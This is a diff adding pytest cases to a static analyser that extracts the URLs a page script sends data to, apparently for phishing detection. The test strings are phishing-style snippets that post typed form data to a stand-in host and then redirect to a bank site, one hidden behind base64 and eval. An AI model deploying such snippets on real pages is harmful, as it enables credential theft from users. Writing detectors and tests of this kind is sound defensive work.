@@ -1,5 +1,6 @@
 """Where scripts lead, as far as it can be read without running them."""
 
+import base64
 import time
 
 import pytest
@@ -142,6 +143,31 @@ def test_a_script_made_to_be_slow_is_read_at_once(piece: str) -> None:
         list(opened("atob" + piece * 20_000))
         list(written("atob" + piece * 20_000))
     assert time.process_time() - began < 1
+
+
+SENDING = b"$.post('http://pills.com/x', d)"
+GOES_ON = {
+    "in a callback": "$.post('http://pills.com/x', d, () => { window.location.replace('https://bank.com/login') })",
+    "behind a request": "fetch('http://pills.com/x', {method: 'POST', body: d}); location.href = 'https://bank.com/'",
+    "by a name": "let end = 'https://bank.com/'; $.post('http://pills.com/x', d); window.location = end",
+    "in a window of its own": "navigator.sendBeacon('http://pills.com/x', d); window.open('https://bank.com/')",
+    "by jQuery": "$.post('http://pills.com/x', d); $(location).attr('href', 'https://bank.com/')",
+    "and sends in a script that it decodes": (
+        f"eval(atob('{base64.b64encode(SENDING).decode()}')); location = 'https://bank.com/'"
+    ),
+}
+
+
+@pytest.mark.parametrize("way", GOES_ON)
+def test_where_a_script_goes_on_to_once_it_has_sent_what_was_typed_is_left_aside(way: str) -> None:
+    assert list(opened(GOES_ON[way])) == ["http://pills.com/x"]
+
+
+def test_links_and_forms_of_a_page_that_sends_are_read() -> None:
+    script = (
+        "$.post('http://pills.com/x', d); a.href = 'http://pills.com/y'; $('#f').attr('action', 'http://pills.com/z')"
+    )
+    assert sorted(opened(script)) == ["http://pills.com/x", "http://pills.com/y", "http://pills.com/z"]
 
 
 @pytest.mark.parametrize("text", ["éééééééé", "aHR0cDové", "_-_-_-_-_", "=========", "AAAAAAAAA"])
